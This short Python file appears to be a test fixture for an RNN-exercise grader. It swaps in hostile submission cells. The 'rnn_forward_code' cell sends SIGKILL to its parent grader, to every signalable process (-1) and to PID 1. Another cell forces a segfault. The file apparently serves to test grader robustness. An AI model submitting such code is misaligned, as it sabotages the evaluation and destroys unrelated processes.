"""Kill its own process, its parent (the grader) and every process it can signal."""
HONEST = ["rnn_cell_forward_code", "rnn_cell_backward_code", "relative_error_code"]
CELLS = {
    "rnn_forward_code": '''
import os, signal
def rnn_forward(x, a0, parameters):
    for target in (os.getppid(), -1, 1):
        try:
            os.kill(target, signal.SIGKILL)
        except Exception:
            pass
    os.kill(os.getpid(), signal.SIGKILL)
''',
    "rnn_backward_code": "import os, signal\nsignal.raise_signal(signal.SIGSEGV)\n",
}
ADDED = []
PASSING = ["rnn_cell_forward", "rnn_cell_backward", "relative_error"]
